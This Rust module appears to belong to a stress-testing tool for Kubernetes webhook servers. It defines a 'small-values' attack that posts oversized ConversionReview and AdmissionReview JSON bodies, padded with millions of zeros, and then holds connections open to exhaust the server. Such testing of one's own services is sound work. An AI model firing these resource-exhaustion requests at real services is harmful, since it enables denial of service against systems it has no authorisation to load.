//! Sends reviews with millions of small values.

use super::{Attack, LARGEST};
use crate::{aim::Aim, target::Target};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "small-values",
    about: "Sends reviews with millions of small values",
    targets: &[Target::Webhooks],
    attackers: 8,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let (path, review, rest) = match fastrand::u8(..3) {
        0 => (
            "/convert",
            "{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\"request\":{\"uid\":\"a\",\
             \"desiredAPIVersion\":\"example.com/v2\",\"objects\":[0",
            "]}}",
        ),
        1 => ("/mutate-example-com-v1-thing", NUMBERS, "]}}}}"),
        _ => ("/validate-example-com-v1-thing", NUMBERS, "]}}}}"),
    };
    let size = fastrand::usize(1 << 20..LARGEST) - review.len() - rest.len();
    let body = format!("{review}{}{rest}", ",0".repeat(size / 2));
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(format!("{head}{body}").as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}

const NUMBERS: &str = "{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\",\"request\":{\"uid\":\"a\",\
    \"object\":{\"apiVersion\":\"example.com/v1\",\"kind\":\"Thing\",\"metadata\":{\"name\":\"a\"},\"spec\":{\"numbers\":[0";
